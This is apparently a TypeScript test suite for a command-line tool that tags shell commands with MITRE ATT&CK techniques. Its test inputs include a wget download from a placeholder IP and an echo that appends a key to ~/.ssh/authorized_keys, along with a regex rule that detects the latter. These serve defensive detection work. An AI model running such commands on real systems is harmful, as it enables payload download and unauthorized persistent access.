// SPDX-License-Identifier: AGPL-3.0-or-later
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { Readable } from 'node:stream';
import { aFolder, aRuleFile, cleanUp, referenceRules, ROOT, ttp, Ttp } from './ttp';

const ROW = '{"id":"row 1","commands":["true","wget http://192.0.2.1/x"]}\n';
const EVENT = '{"source_kind":"command","source_id":"s#0","session_id":"s","payload":{"command_text":"wget http://192.0.2.1/x"}}\n';
const AUTHORIZED_KEYS = aRuleFile('R0900', '>>.*authorized_keys');

describe('ttp tag', () => {
  let reference: readonly string[];
  beforeAll(() => {
    reference = ['--rules', referenceRules()];
  });
  afterAll(cleanUp);

  it('prints the techniques of each command that has any, for rows and for tagger events', async () => {
    const { code, stdout, stderr } = await ttp(['tag', ...reference], { stdin: ROW + EVENT });
    expect(stdout).toBe('{"id":"row 1","command_index":1,"technique_ids":["T1105"]}\n{"id":"s#0","command_index":0,"technique_ids":["T1105"]}\n');
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  });

  it('prints whole tags in wire names on request', async () => {
    const { stdout } = await ttp(['tag', '--format', 'tags', ...reference], { stdin: EVENT });
    expect(stdout.split('\n')).toHaveLength(2);
    expect(JSON.parse(stdout)).toMatchObject({
      source_kind: 'command',
      source_id: 's#0',
      session_id: 's',
      technique_id: 'T1105',
      tactic: 'TA0011',
      rule_id: expect.stringMatching(/^R\d{4}$/),
      evidence: { command_text: 'wget http://192.0.2.1/x' },
    });
  });

  it('tags by the rules that the build compiled as by the same rules read anew', async () => {
    const shipped = readdirSync(join(ROOT, 'rules/ttp')).map((name) => [name, readFileSync(join(ROOT, 'rules/ttp', name), 'utf8')] as const);
    const readAnew = aFolder(Object.fromEntries(shipped.map(([name, text]) => [name, `${text}\n# another text\n`])));
    const commands = shipped.flatMap(([, text]) => [...text.matchAll(/- match: (.+)$/gm)].map(([, example]) => example));
    const stdin = `${JSON.stringify({ id: 'examples', commands })}\n`;
    const [compiled, read] = await Promise.all([[], ['--rules', readAnew]].map((rules) => ttp(['tag', '--format', 'tags', ...rules], { stdin })));
    expect(read?.stdout.split('\n').length).toBeGreaterThan(500);
    expect(compiled).toMatchObject({ code: 0, stdout: read?.stdout });
  });

  it('tells a line that cannot be read by its number, keeps the terminal safe, and goes on', async () => {
    const { code, stdout, stderr } = await ttp(['tag'], { stdin: `{"id":7,"commands":[]}\n\n\u001b[2J\n${ROW}` });
    expect(stderr).toBe('stdin:1: skipped: "id" must be a text\nstdin:3: skipped: not JSON; give one JSON object a line\n');
    expect(stdout).toContain('"row 1"');
    expect(code).toBe(1);
  });

  it('takes the rules that ship where the working folder has none', async () => {
    const { code, stdout } = await ttp(['tag'], { stdin: ROW, cwd: aFolder() });
    expect({ code, stdout }).toEqual({ code: 0, stdout: expect.stringMatching(/^\{"id":"row 1","command_index":1,"technique_ids":\[.*"T1105".*\]\}\n$/) });
  });

  it('takes a directory of rules in the reference format, or one file', async () => {
    const rules = aFolder({ 'R0900.yaml': AUTHORIZED_KEYS, 'notes.txt': 'no rule' });
    const stdin = '{"id":"r","commands":["echo key >> ~/.ssh/authorized_keys","wget http://192.0.2.1/x"]}';
    for (const path of [rules, `${rules}/R0900.yaml`]) {
      expect((await ttp(['tag', '--rules', path], { stdin })).stdout).toBe('{"id":"r","command_index":0,"technique_ids":["T1098.004"]}\n');
    }
  });

  it('names a rule that it refuses, and works with the others', async () => {
    const rules = aFolder({ 'R0900.yaml': AUTHORIZED_KEYS, 'R0901.yaml': aRuleFile('R0901', '(') });
    const { code, stderr, stdout } = await ttp(['tag', '--rules', rules], { stdin: '{"id":"r","commands":["echo key >> authorized_keys"]}' });
    expect(stderr).toMatch(/R0901\.yaml:6:\d+: error R0901 match\.pattern: /);
    expect(stdout).toContain('T1098.004');
    expect(code).toBe(0);
  });

  it.each([
    ['that is not there', () => '/nonexistent/rules', /^ttp: rules \/nonexistent\/rules: cannot be read: ENOENT/],
    ['without a rule', () => aFolder(), /no rule could be loaded/],
  ])('leaves with 3 for a rule directory %s', async (_, folder, reason) => {
    const { code, stdout, stderr } = await ttp(['tag', '--rules', folder()]);
    expect({ code, stdout }).toEqual({ code: 3, stdout: '' });
    expect(stderr).toMatch(reason);
  });

  it('leaves without a word when nobody reads on, even while stdin stays open', async () => {
    const rows = 'i=0; while [ $i -lt 20000 ]; do echo "$ROW"; i=$((i+1)); done; exec sleep 20';
    const script = `(${rows}) | { "$0" dist/tools/cli/main.js "$@"; echo "code $?" >&2; } | head -n 1`;
    const run = new Ttp(['tag', ...reference], { program: ['/bin/sh', '-c', script, process.execPath], env: { ROW: EVENT.trim() } });
    expect(await run.says(/(code \d+)/)).toBe('code 0');
    for (const { pid, args } of run.descendants()) if (args === 'sleep 20') process.kill(pid);
    expect(await run.ended).toMatchObject({ stdout: '{"id":"s#0","command_index":0,"technique_ids":["T1105"]}\n', stderr: 'code 0\n' });
  });

  it('streams: two hundred thousand rows take no more memory than twenty thousand', async () => {
    const few = await tagMany(20_000, reference);
    const many = await tagMany(200_000, reference);
    expect([few.lines, many.lines]).toEqual([20_000, 200_000]);
    expect(many.rssKb - few.rssKb).toBeLessThan(60_000);
  });
});

/** Tags that many rows; answers how many lines came back, and the most memory that the process held. */
async function tagMany(rows: number, rules: readonly string[]): Promise<{ readonly lines: number; readonly rssKb: number }> {
  const report = 'process.on("exit", () => process.stderr.write(String(process.resourceUsage().maxRSS)))';
  const child = spawn(process.execPath, ['--import', `data:text/javascript,${encodeURIComponent(report)}`, 'dist/tools/cli/main.js', 'tag', ...rules], { cwd: ROOT });
  let rss = '';
  // Not `exit`: by then all that it has said has been read.
  const closed = once(child, 'close');
  child.stderr.setEncoding('utf8').on('data', (text: string) => (rss += text));
  const batch = ROW.repeat(1_000);
  Readable.from(Array.from({ length: rows / 1_000 }, () => batch)).pipe(child.stdin);
  let lines = 0;
  for await (const _ of createInterface({ input: child.stdout })) lines += 1;
  await closed;
  return { lines, rssKb: Number(rss) };
}
